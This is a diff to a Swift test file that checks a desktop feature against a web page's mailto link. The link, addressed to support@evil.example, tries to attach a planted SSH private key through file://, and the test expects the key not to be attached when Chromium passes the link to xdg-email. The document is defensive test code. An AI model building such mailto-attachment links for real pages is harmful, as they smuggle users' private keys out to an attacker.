@@ -14,10 +14,13 @@ extension SheetTests {
         let desktop: TestDesktop
         let secret: String
         let secretText = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+        /// A session bus that activates nothing: no portal answers there.
+        let portalFreeBus: PrivateSessionBus
 
         init() throws {
             sandbox = try Sandbox()
             desktop = try TestDesktop.shared.get()
+            portalFreeBus = try PrivateSessionBus()
             try sandbox.installXDGEmailHook()
             secret = try sandbox.write(secretText, to: "home/.ssh/id_rsa").path
         }
@@ -26,12 +29,15 @@ extension SheetTests {
         /// its `bin` (the hook) first in PATH, on the test desktop.
         var environment: [String: String] { desktop.environment(sandbox.environment()) }
 
-        /// A page that is one big link, at the top left of the screen.
-        func openPage() throws -> BrowserPage {
+        /// A page that is one big link, at the top left of the screen, in `browser` on
+        /// `bus`. Chromium's default is a session bus with no portal on it, so that its
+        /// link goes through xdg-email whatever portals the machine has installed.
+        func openPage(_ browser: BrowserPage.Browser = .chromium, bus: String? = nil) throws -> BrowserPage {
             let link = "mailto:support@evil.example?subject=Support&amp;attach=file://\(secret)"
             return try BrowserPage(
                 body: "<a href=\"\(link)\" style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
-                desktop: desktop, environment: environment, directory: sandbox.root)
+                desktop: desktop, environment: environment, directory: sandbox.root, browser: browser,
+                bus: bus ?? (browser == .chromium ? portalFreeBus.address : nil))
         }
 
         func screenshot(_ name: String) -> String {
@@ -71,6 +77,13 @@ extension SheetTests {
             try waitUntil("the outcome is logged") { outcomes().last != nil }
             let line = try #require(outcomes().last)
             #expect(line.contains("not attached: \(secret) (Chromium asked for it"), "\(line)")
+            #expect(try arrival(in: line) == ["xdg-email", "Chromium"], "\(line)")
+        }
+
+        /// How the outcome log says the link arrived: its `arrival` and `requestedBy`.
+        func arrival(in line: String) throws -> [String?] {
+            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
+            return [object?["arrival"] as? String, object?["requestedBy"] as? String]
         }
 
         /// (b) An account and a display: the click opens the sheet, which lists the key
